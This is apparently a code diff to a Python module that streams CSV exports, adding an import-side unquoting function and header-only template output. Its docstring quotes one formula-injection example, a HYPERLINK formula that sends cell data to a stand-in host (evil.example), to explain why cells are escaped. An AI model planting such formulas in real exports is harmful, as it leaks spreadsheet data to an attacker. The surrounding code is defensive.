@@ -1,6 +1,6 @@
 """CSV as every part of the application writes it (the API's `?format=csv`, the follow-up board's
-and the coverage grid's *Download CSV*): one writer, streamed, so that every cell is made safe in
-one place and memory stays flat however many rows there are.
+and the coverage grid's *Download CSV*, the registers' export): one writer, streamed, so that every
+cell is made safe in one place and memory stays flat however many rows there are.
 
 A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage
 return) as a formula: a title such as `=HYPERLINK("http://evil.example/?x="&A1,"Click")` would
@@ -32,15 +32,28 @@ class _Echo:
         return value
 
 
-def csv_lines(rows, header=None):
+def read_cell(value: str) -> str:
+    """A cell of a CSV file this writer wrote, as it was before `safe_cell` quoted it (an
+    import reads its own export back)."""
+    quoted = value.startswith("'") and value[1:].startswith(FORMULA_STARTS)
+    return value[1:] if quoted and not PLAIN_NUMBER.fullmatch(value[1:]) else value
+
+
+def csv_lines(rows, header=None, *, header_when_empty=False):
     """The lines of a CSV file, one at a time (for a streaming response): the header (given,
-    or the first row's keys), then each row's cells in the header's order."""
+    or the first row's keys), then each row's cells in the header's order (a row may also be
+    a list of cells in that order). No rows give an empty file, or only the header when
+    `header_when_empty` (a register's export is also its template)."""
     writer = csv.writer(_Echo())
+    index = -1
     for index, row in enumerate(rows):
         if index == 0:
             header = header or list(row)
             yield writer.writerow([safe_cell(name) for name in header])
-        yield writer.writerow([safe_cell(row.get(column, "")) for column in header])
+        cells = row if isinstance(row, list | tuple) else [row.get(c, "") for c in header]
+        yield writer.writerow([safe_cell(cell) for cell in cells])
+    if index == -1 and header_when_empty:
+        yield writer.writerow([safe_cell(name) for name in header])
 
 
 def csv_response(rows, header, filename: str) -> StreamingHttpResponse:
